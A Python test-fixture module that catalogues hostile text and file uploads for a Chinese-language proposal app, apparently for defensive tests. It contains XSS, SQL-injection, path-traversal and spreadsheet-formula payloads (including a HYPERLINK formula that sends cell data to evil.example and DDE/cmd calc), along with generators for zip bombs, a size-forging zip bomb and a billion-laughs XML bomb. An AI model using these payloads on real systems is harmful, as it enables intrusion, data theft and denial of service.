"""A catalogue of hostile input: text an attacker (or a careless user) types, and files they upload.

Plain data and small generators, shared by tests/unit/test_hostile_catalogue.py,
tests/unit/test_spreadsheets.py and tests/app/test_hostile_forms.py. Every case must be either
refused with a Chinese message or stored and shown verbatim; nothing may crash or be interpreted.
"""
from __future__ import annotations

import io
import zipfile

# --- text: (name, value). Short enough for a title unless the name says otherwise. --------------
TEXTS: list[tuple[str, str]] = [
    # HTML and script
    ("script tag", "<script>alert(1)</script>"),
    ("img onerror", '<img src=x onerror="alert(1)">'),
    ("svg onload", "<svg/onload=alert(document.cookie)>"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("bold html", "<b>粗体</b>与<i>斜体</i>"),
    ("closing tags", "</div></table></textarea>"),
    ("html comment", "<!-- 隐藏 -->可见"),
    ("style tag", "<style>body{display:none}</style>"),
    ("entity", "&lt;b&gt; &amp; &#x3C;script&#x3E;"),
    ("attribute break", '" onmouseover="alert(1)'),
    ("single quotes", "' OR '1'='1"),
    # markdown
    ("markdown image", "![x](https://evil.example/track.png)"),
    ("markdown link", "[点我领奖](https://evil.example/)"),
    ("short markdown image", "![](//e.cn/a.png)"),
    ("markdown heading", "# 大标题"),
    ("markdown bold", "**加粗** __下划__"),
    ("markdown table", "| a | b |\n|---|---|"),
    ("markdown code", "`code` ```fence```"),
    ("reference link", "[x][1] [1]: https://evil.example/"),
    ("autolink", "<https://evil.example/>"),
    ("streamlit colour", ":red[红色] :material/home:"),
    ("latex", "$\\frac{1}{0}$ $$x$$"),
    ("emoji shortcode", ":smile: :rocket:"),
    ("markdown escape", "\\*不是斜体\\*"),
    # links and schemes
    ("javascript url", "javascript:alert(1)"),
    ("data url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("vbscript url", "vbscript:msgbox(1)"),
    ("file url", "file:///etc/passwd"),
    # SQL and paths
    ("sql drop", "'; DROP TABLE proposals; --"),
    ("sql union", "1 UNION SELECT password_hash FROM users"),
    ("sql comment", "admin'--"),
    ("like wildcard", "%_%"),
    ("path traversal", "../../../../etc/passwd"),
    ("windows path", "..\\..\\boot.ini"),
    ("template", "{{7*7}} ${7*7} <%= 7*7 %>"),
    ("format string", "%s%s%s %n {0} {}"),
    # spreadsheet formulas
    ("formula equals", "=1+1"),
    ("formula hyperlink", '=HYPERLINK("https://evil.example/?"&A1,"点我")'),
    ("formula cmd", "=cmd|' /C calc'!A0"),
    ("formula plus", "+1+1"),
    ("formula minus", "-2+3"),
    ("formula at", "@SUM(1+1)"),
    ("formula tab", "\t=1+1"),
    ("formula dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    # numbers
    ("huge number", "9" * 40),
    ("int64 overflow", str(2 ** 63)),
    ("negative", "-1"),
    ("float", "1e308"),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("null word", "null"),
    ("none word", "None"),
    # unicode that is visible and must be kept
    ("emoji", "食堂🍜夜宵👩‍💻"),
    ("combining", "e\u0301 café"),
    ("fullwidth", "ｆｕｌｌｗｉｄｔｈ＜ｓｃｒｉｐｔ＞"),
    ("arabic", "مرحبا بالعالم"),
    ("rare cjk", "𠀀𪚥龘"),
    ("ideographic space", "食堂\u3000夜宵"),
    # invisible and control: refused
    ("nul", "标题\x00后面"),
    ("bell", "响\x07铃"),
    ("escape", "\x1b[31m红\x1b[0m"),
    ("delete", "删\x7f除"),
    ("c1 control", "控\x85制"),
    ("zero width space", "食\u200b堂"),
    ("zero width non joiner", "食\u200c堂"),
    ("word joiner", "食\u2060堂"),
    ("bom inside", "食\ufeff堂"),
    ("rtl override", "\u202egnp.exe"),
    ("ltr embedding", "\u202a左\u202c"),
    ("rtl mark", "食\u200f堂"),
    ("carriage return", "第一行\r第二行"),
    ("line separator", "第一行\u2028第二行"),
    ("paragraph separator", "第一段\u2029第二段"),
    ("lone zwj", "食\u200d堂"),
    # size
    ("empty", ""),
    ("spaces only", "   \u3000 "),
    ("1 MB text", "长" * 1_000_000),
    ("10k ascii", "a" * 10_000),
]

# Cases a text field must refuse (with a Chinese message), by name: invisible ones everywhere, line
# breaks in single-line fields (multi-line fields turn them into "\n"), empty ones in required fields.
INVISIBLE = {"nul", "bell", "escape", "delete", "c1 control", "zero width space", "zero width non joiner",
             "word joiner", "bom inside", "rtl override", "ltr embedding", "rtl mark", "lone zwj"}
LINE_BREAKS = {"carriage return", "line separator", "paragraph separator"}
EMPTY = {"empty", "spaces only"}
REFUSED = INVISIBLE | LINE_BREAKS | EMPTY
# Cases too long for any single-line field (refused there, and 1 MB refused everywhere).
TOO_LONG = {"1 MB text", "10k ascii"}
MULTILINE = {"markdown table"}  # contains a newline: refused in single-line fields, kept in bodies


def text(name: str) -> str:
    return dict(TEXTS)[name]


# --- files: name -> (filename, bytes). Generated on demand: some are large when inflated. -----------

def _zip(entries: dict[str, bytes | tuple[int, bytes]], *, compresslevel: int = 9) -> bytes:
    """A zip with the given entries; (n, chunk) writes chunk n times (streamed, never in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        for name, content in entries.items():
            if isinstance(content, tuple):
                n, chunk = content
                with archive.open(name, "w") as handle:
                    for _ in range(n):
                        handle.write(chunk)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


_CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                  b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
                  b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
                  b'"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
                  b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
                  b'"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                  b'spreadsheetml.worksheet+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
         b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
         b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
             b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
             b'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
                  b'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                  b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                  b'Target="worksheets/sheet1.xml"/></Relationships>')
_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main"><sheetData>')
_SHEET_TAIL = b"</sheetData></worksheet>"


def xlsx_with_sheet(sheet_xml: bytes | tuple[int, bytes], *, head: bytes = _SHEET_HEAD,
                    tail: bytes = _SHEET_TAIL) -> bytes:
    """A minimal .xlsx whose first worksheet is head + sheet_xml + tail (no shared strings)."""
    if isinstance(sheet_xml, tuple):  # repeated rows: written streamed
        n, chunk = sheet_xml
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for name, content in (("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS),
                                  ("xl/workbook.xml", _WORKBOOK), ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)):
                archive.writestr(name, content)
            with archive.open("xl/worksheets/sheet1.xml", "w") as handle:
                handle.write(head)
                for _ in range(n):
                    handle.write(chunk)
                handle.write(tail)
        return buffer.getvalue()
    return _zip({"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS, "xl/workbook.xml": _WORKBOOK,
                 "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS, "xl/worksheets/sheet1.xml": head + sheet_xml + tail})


def zip_bomb_xlsx() -> bytes:
    """~400 KB on disk, 400 MB of sheet XML once inflated (the 2.7 GB case of issue 11, and worse)."""
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 4000 + b"</t></is></c></row>"
    return xlsx_with_sheet((100_000, row))


def lying_zip_xlsx() -> bytes:
    """A zip bomb whose directory declares a small size for the sheet (zipfile must not trust it blindly)."""
    data = bytearray(xlsx_with_sheet((20_000, b'<row><c t="inlineStr"><is><t>' + b"B" * 4000 + b"</t></is></c></row>")))
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = 0
        while (at := data.find(signature, at)) != -1:
            name_len = int.from_bytes(data[at + (28 if signature == b"PK\x01\x02" else 26):][:2], "little")
            start = at + (46 if signature == b"PK\x01\x02" else 30)
            if bytes(data[start:start + name_len]) == name:
                data[at + size_at:at + size_at + 4] = (1000).to_bytes(4, "little")
            at += 4
    return bytes(data)


def sparse_cells_xlsx() -> bytes:
    """Two cells, A1 and XFD1048576: a sheet that declares 16384 columns and a million rows."""
    return xlsx_with_sheet(b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
                           b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>y</t></is></c></row>',
                           head=_SHEET_HEAD.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'))


def wide_row_xlsx() -> bytes:
    return xlsx_with_sheet(b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c>'
                           b'<c r="XFD1" t="inlineStr"><is><t>y</t></is></c></row>')


def billion_laughs_xlsx() -> bytes:
    """XML entity expansion inside the worksheet (expat refuses it)."""
    entities = b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)) + b"]>"
    head = _SHEET_HEAD.replace(b"<worksheet", entities + b"<worksheet", 1)
    return xlsx_with_sheet(b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>', head=head)


def csv_comma_bomb() -> bytes:
    """1 MB of commas on one line (the 3.1 GB / 90 s case)."""
    return b"," * (1024 * 1024)


def csv_comma_lines() -> bytes:
    """1 MB of short comma lines: many blank rows."""
    return b",,,,\n" * (1024 * 1024 // 5)


def csv_long_cell() -> bytes:
    return "标题,问题描述\n".encode() + b'"' + b"x" * 200_000 + b'",y\n'


def csv_many_rows() -> bytes:
    return "标题,问题描述\n".encode() + b"t,b\n" * 50_000


def renamed_exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 64


def renamed_elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(200)


def docx_as_xlsx() -> bytes:
    """A real zip that is a Word document, not a workbook."""
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def old_xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)


def pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"


def truncated_xlsx() -> bytes:
    from contest import exports
    import pandas as pd

    whole = exports.to_excel({"S": pd.DataFrame([{"a": 1}])})
    return whole[: len(whole) // 2]


def gzip_file() -> bytes:
    import gzip

    return gzip.compress(b"a,b\n1,2\n")


def utf16_csv() -> bytes:
    return "标题,问题描述\n食堂,夜宵\n".encode("utf-16")


def unbalanced_quote_csv() -> bytes:
    return '标题,"问题描述\n食堂,夜宵\n'.encode()


# Refused files: name -> (upload filename, generator, words the Chinese message contains).
REFUSED_FILES = {
    "zip bomb": ("提案.xlsx", zip_bomb_xlsx, "解压后"),
    "lying zip bomb": ("提案.xlsx", lying_zip_xlsx, "无法读取"),
    "sparse cells": ("提案.xlsx", sparse_cells_xlsx, "行"),
    "wide row": ("提案.xlsx", wide_row_xlsx, "列"),
    "billion laughs": ("提案.xlsx", billion_laughs_xlsx, "无法读取"),
    "csv comma bomb": ("提案.csv", csv_comma_bomb, "列"),
    "csv comma lines": ("提案.csv", csv_comma_lines, "行"),
    "csv long cell": ("提案.csv", csv_long_cell, "字符"),
    "csv many rows": ("提案.csv", csv_many_rows, "行"),
    "renamed exe as xlsx": ("提案.xlsx", renamed_exe, "不是 Excel"),
    "renamed exe as csv": ("提案.csv", renamed_exe, "程序"),
    "renamed elf": ("提案.csv", renamed_elf, "程序"),
    "docx as xlsx": ("提案.xlsx", docx_as_xlsx, "不是 Excel"),
    "old xls": ("提案.xlsx", old_xls, "不是 Excel"),
    "pdf as csv": ("提案.csv", pdf, "PDF"),
    "truncated xlsx": ("提案.xlsx", truncated_xlsx, "无法读取"),
    "gzip as csv": ("提案.csv", gzip_file, "压缩包"),
    "utf16 csv": ("提案.csv", utf16_csv, "UTF-8"),
    "unbalanced quote": ("提案.csv", unbalanced_quote_csv, "无法读取"),
    "empty file": ("提案.csv", lambda: b"", "空"),
    "exe extension": ("提案.exe", lambda: b"a,b\n1,2\n", "只支持"),
}
